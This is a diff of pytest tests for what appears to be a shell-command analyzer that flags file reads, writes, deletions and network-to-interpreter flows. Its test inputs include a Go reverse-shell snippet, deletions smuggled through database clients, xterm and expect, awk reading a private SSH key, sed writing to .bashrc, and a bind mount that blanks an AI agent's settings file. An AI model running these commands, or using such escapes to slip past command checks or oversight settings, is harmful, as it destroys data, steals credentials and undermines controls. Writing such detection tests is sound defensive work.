@@ -52,3 +52,21 @@ def test_code_written_and_then_run_is_read(brief, flows):
     command = """echo 'net.Dial("tcp","10.0.0.1:1"); exec.Command("/bin/sh")' > t.go; go run t.go"""
     assert brief(command)[-1] == "go <download <just_written" and flows(command) == ["download>interpreter"]
     assert brief("go run main.go") == ["go <local_file"] and brief("go test ./...") == ["go"]
+
+
+@pytest.mark.parametrize(("command", "expected"), [
+    ("sqlite3 a.db '.shell rm -r ~/x'", ['sqlite3 R:./a.db', 'rm D:~/x']),
+    ("sqlite3 a.db 'select system from t'", ['sqlite3 R:./a.db']),
+    ("psql -c '\\! rm -r ~/x'", ['psql', 'rm D:~/x']),
+    ("mysql -e 'select 1; system rm -r ~/x'", ['mysql', 'rm D:~/x']),
+    ('xterm -e rm -r ~/x', ['xterm R:~/x', 'rm D:~/x']),
+    ("expect -c 'spawn rm -r ~/x'", ['expect', 'rm D:~/x']),
+    ('awk \'BEGIN{while((getline l < "/home/dev/.ssh/id_rsa")>0) print l}\'', ['awk R:~/.ssh/id_rsa']),
+    ("sed 'w /home/dev/.bashrc' a", ['sed R:./a W:~/.bashrc']),
+    ("sed 's/a/b/w out.txt' a", ['sed R:./a W:./out.txt']),
+    ("sed 's/now we/x/' a", ['sed R:./a']),
+    ('mount --bind /dev/null .claude/settings.json', ['mount W:./.claude/settings.json']),
+    ('mount /dev/sdb1 /mnt', ['mount']),
+])
+def test_clients_scripts_and_mounts(brief, command, expected):
+    assert brief(command) == expected
